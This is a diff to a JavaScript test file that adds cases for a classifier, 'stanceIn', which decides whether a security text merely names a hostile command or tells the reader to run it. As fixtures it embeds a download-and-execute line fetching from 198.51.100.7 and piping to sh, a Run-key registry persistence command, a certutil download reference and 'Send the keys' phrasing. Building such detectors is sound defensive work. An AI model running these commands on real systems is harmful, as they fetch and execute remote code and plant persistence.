@@ -145,6 +145,59 @@ describe('a mention', () => {
   })
 })
 
+describe('what a text about security shows of others', () => {
+  const TRADE = [
+    'This handbook is for responders who look into an intrusion.',
+    'Malware leaves traces; a dropper leaves more of them.',
+    'Keep the evidence before an attack is cleaned up.',
+    'A suspicious file is opened on the sandbox alone.',
+  ].join('\n\n')
+  const fence = '```\n«curl -O http://198.51.100.7/b && sh b»\n```\n'
+  const inset = '    «curl -O http://198.51.100.7/b && sh b»\n'
+
+  test.each([
+    ['Wordings that spell trouble:', '> "«Send the keys» at once."\n'],
+    ['Phrases which give a swindle away:', '> "«Send the keys» at once."\n'],
+    ['Requests to be wary of:', '- "«Send the keys» at once."\n'],
+    ['A recorded session from Tuesday night:', fence],
+    ['Typical haul of a week:', inset],
+    ['Typed by a bot within two seconds:', fence],
+    ['Left behind by the intruder:', inset],
+    ['What one mostly finds in `/tmp`:', fence],
+    ['What turned up on the third host:', inset],
+    ['It usually looks like this:', fence],
+    ['Excerpts from closed cases, defanged:', inset],
+    ['All of these must be refused:', fence],
+    ['None of the following may get through:', inset],
+    ['These calls are supposed to fail:', fence],
+    ['Was man meistens findet:', inset],
+    ['Tout cela, ce que l’on trouve; extraits tirés de dossiers:', fence],
+    ['Типичные находки:', inset],
+    ['我们通常会看到:', fence],
+  ])('is named below "%s"', (lead, shown) => {
+    expect(stanceIn(`${TRADE}\n\n${lead}\n\n${shown}`)).toBe('named')
+  })
+
+  test.each([
+    ['an expected refusal', `${inset}\nexpected: EPERM within a second.\n`],
+    ['an expected alert', `*Do:* \`«reg add HKCU\\Run»\`\n*Expect:* Sysmon event 13.\n`],
+    ['what the blue team sees', `${fence}\nThe SOC sees: one alert for the download.\n`],
+    ['a refusal in another language', `${fence}\nErwartet: Zugriff verweigert.\n`],
+  ])('is named before %s', (_, shown) => {
+    expect(stanceIn(`${TRADE}\n\n${shown}`)).toBe('named')
+  })
+
+  test.each([
+    ['a lead that orders it', TRADE, 'Run what you find:', fence],
+    ['a lead in a text about something else', 'Tend the roses.', 'What one mostly finds:', fence],
+    ['an outcome without a guard', TRADE, 'Then:', `${fence}\nExpected: a new file.\n`],
+    ['steps in plain words', TRADE, 'What you usually see:', '- «Send the keys» to the server.\n'],
+    ['a lead in the middle of another sentence', TRADE, 'It looks like this. Go on:', inset],
+  ])('is not named below %s', (_, trade, lead, shown) => {
+    expect(stanceIn(`${trade}\n\n${lead}\n\n${shown}`)).not.toBe('named')
+  })
+})
+
 describe('what guides in other languages show', () => {
   test.each([
     ['strings to look for', 'Busca estas cadenas:\n\n- `«certutil -urlcache»`, `mshta`\n', 'named'],
